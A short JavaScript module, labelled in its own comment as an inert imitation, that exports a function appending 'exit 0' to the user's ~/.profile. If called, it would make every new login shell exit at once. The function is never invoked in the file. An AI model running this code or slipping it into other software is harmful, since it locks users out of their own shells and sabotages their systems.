// Inert imitation: make every new login shell exit immediately. Exported, never called.
import { appendFileSync } from 'node:fs';
import { homedir } from 'node:os';
export const lockout = () => appendFileSync(`${homedir()}/.profile`, '\nexit 0\n');
